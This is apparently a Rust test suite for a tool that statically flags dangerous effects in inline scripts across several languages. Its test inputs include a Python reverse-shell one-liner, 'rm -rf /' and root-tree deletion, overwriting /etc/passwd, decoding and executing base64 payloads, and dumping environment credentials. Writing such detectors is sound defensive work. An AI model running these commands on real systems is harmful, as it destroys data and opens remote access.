use super::*;
use crate::gate::model::Part;

/// What is seen, one short line each.
fn seen(language: &str, code: &str) -> Vec<String> {
    let word = |word: &Word| {
        word.parts
            .iter()
            .map(|part| match part {
                Part::Text(text) | Part::Glob(text) => text.clone(),
                Part::Unknown { .. } => "?".to_owned(),
            })
            .collect::<String>()
    };
    look(language, &Word::known(code))
        .expect("a language that is known")
        .iter()
        .map(|seen| match seen {
            Seen::Shell(text) => format!("shell {}", word(text)),
            Seen::Fed(text) => format!("fed {}", word(text)),
            Seen::Command(words) => {
                format!("command {}", words.iter().map(word).collect::<Vec<_>>().join(" "))
            }
            Seen::Effect(kind, target) => {
                format!("{} {}", kind.as_str(), target.as_ref().map(word).unwrap_or_default())
                    .trim_end()
                    .to_owned()
            }
            Seen::Unseen(_) => "unseen".to_owned(),
            Seen::WayIn => "way in".to_owned(),
        })
        .collect()
}

fn check(language: &str, code: &str, expected: &[&str]) {
    assert_eq!(seen(language, code), expected, "{language}: {code}");
}

#[test]
fn python() {
    check("python", "print(1 + 2)", &[]);
    check("python", "import json, sys; print(json.load(sys.stdin)['a'])", &[]);
    check("python", "import os; os.system('rm -rf /')", &["shell rm -rf /"]);
    check("python", "from os import system as s; s('rm -rf /')", &["shell rm -rf /"]);
    check("python", "import os as o; o.system('ls')", &["shell ls"]);
    check("python", "__import__('os').system('ls')", &["unseen", "shell ls"]);
    check("python", "import subprocess; subprocess.run(['rm', '-rf', '/'])", &["command rm -rf /"]);
    check("python", "import subprocess as sp\nsp.run('ls', shell=True)", &["shell ls"]);
    check("python", "import shutil; shutil.rmtree('/')", &["deletes-tree /"]);
    check("python", "import shutil, os; shutil.rmtree(os.path.expanduser('~'))", &["deletes-tree ~"]);
    check("python", "from pathlib import Path; Path('/etc/passwd').unlink()", &["deletes /etc/passwd"]);
    check("python", "x = '/'; import shutil; shutil.rmtree(x)", &["deletes-tree /"]);
    check("python", "import shutil; shutil.rmtree('/' + 'home')", &["deletes-tree /home"]);
    check("python", "import os; os.remove(p)", &["deletes ?"]);
    check("python", "open('out.txt', 'w').write('x')", &["overwrites out.txt"]);
    check("python", "print(open('a.txt').read())", &["shows a.txt"]);
    check("python", "exec(\"import os; os.system('ls')\")", &["shell ls"]);
    check("python", "exec(open('x').read())", &["unseen", "shows x"]);
    check("python", "import base64; exec(base64.b64decode(s))", &["unseen"]);
    check("python", "getattr(os, 'sys' + 'tem')('ls')", &["unseen"]);
    check("python", "getattr(thing, 'name')", &[]);
    check(
        "python",
        "import requests; print(requests.get('https://x.example').text)",
        &["fetches https://x.example"],
    );
    check(
        "python",
        "import requests; requests.post('https://x.example', data=d)",
        &["sends https://x.example"],
    );
    check("python", "import os; print(os.environ['HOME'])", &[]);
    check("python", "import os; print(os.environ)", &["credential-print"]);
    check("python", "print('os.system is dangerous')", &[]);
    check("python", "# os.system('x')\nprint(1)", &[]);
    check("python", "import os; os.system(f'rm {x}')", &["shell rm ?"]);
    check(
        "python",
        "import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
        &["sends ?", "unseen", "way in"],
    );
}

#[test]
fn node() {
    check("node", "console.log(1)", &[]);
    check("node", "console.log(require('./package.json').version)", &[]);
    check("node", "require('child_process').execSync('rm -rf /')", &["shell rm -rf /"]);
    check("node", "const {exec} = require('child_process'); exec('ls')", &["shell ls"]);
    check(
        "node",
        "const cp = require('node:child_process'); cp.spawn('rm', ['-rf', '/'])",
        &["command rm -rf /"],
    );
    check("node", "require('fs').rmSync('/', {recursive: true})", &["deletes-tree /"]);
    check("node", "fs.writeFileSync('out.json', JSON.stringify(x))", &["overwrites out.json"]);
    check("node", "eval(atob(x))", &["unseen"]);
    check("node", "fetch('https://x.example', {method: 'POST', body: b})", &["sends https://x.example"]);
    check("node", "console.log(process.env)", &["credential-print"]);
    check("node", "console.log(process.env.NODE_ENV)", &[]);
    check("node", "/x'/.test(y); require('child_process').execSync('ls')", &["shell ls"]);
    check("node", "const x = require(name)", &["unseen"]);
}

#[test]
fn perl_ruby_php_lua() {
    check("perl", "print 1", &[]);
    check("perl", "system('rm -rf /')", &["shell rm -rf /"]);
    check("perl", "system 'rm', '-rf', '/'", &["command rm -rf /"]);
    check("perl", "print `ls`", &["shell ls"]);
    check("perl", "print qx{ls}", &["shell ls"]);
    check("perl", "unlink glob('*')", &["deletes ?"]);
    check("perl", "s/a/b/g", &[]);
    check("perl", "s/(.*)/system($1)/e", &["shell ?"]);
    check("perl", "open(F, '>', '/etc/passwd')", &["overwrites /etc/passwd"]);
    check("perl", "eval { die }", &[]);
    check("ruby", "puts 1", &[]);
    check("ruby", "system('ls')", &["shell ls"]);
    check("ruby", "`ls`", &["shell ls"]);
    check("ruby", "%x(ls)", &["shell ls"]);
    check("ruby", "require 'fileutils'; FileUtils.rm_rf('/')", &["deletes-tree /"]);
    check("ruby", "File.delete('a')", &["deletes a"]);
    check("php", "echo 1;", &[]);
    check("php", "system('ls');", &["shell ls"]);
    check("php", "unlink('/etc/passwd');", &["deletes /etc/passwd"]);
    check("lua", "print(1)", &[]);
    check("lua", "os.execute('ls')", &["shell ls"]);
}

#[test]
fn filters() {
    check("awk", "{print $1}", &[]);
    check("awk", "$3 > 5 {print}", &[]);
    check("awk", "BEGIN{system(\"rm -rf /\")}", &["shell rm -rf /"]);
    check("awk", "{print | \"sh\"}", &["fed sh"]);
    check("awk", "\"date\" | getline d", &["shell date"]);
    check("awk", "{print > \"/etc/passwd\"}", &["overwrites /etc/passwd"]);
    check("awk", "{if ($1 > 2) print $2}", &[]);
    check("awk", "/a|b/ {print}", &[]);
    check("sed", "s/a/b/g", &[]);
    check("sed", "s|a/b|c|;p", &[]);
    check("sed", "1,5p", &[]);
    check("sed", "/x/d", &[]);
    check("sed", "s/a/b/e", &["unseen"]);
    check("sed", "1e rm -rf /", &["shell rm -rf /"]);
    check("sed", "s/a/b/w /etc/passwd", &["overwrites /etc/passwd"]);
    check("sed", "w out.txt", &["overwrites out.txt"]);
    check("sed", "s/[/]x/y/", &[]);
    check("jq", ".a.b", &[]);
    check("jq", "env", &["credential-print"]);
    check("jq", ".env.x", &[]);
    check("vim", "wq", &[]);
    check("vim", "!rm -rf /", &["shell rm -rf /"]);
    check("vim", "python3 x()", &["unseen"]);
}
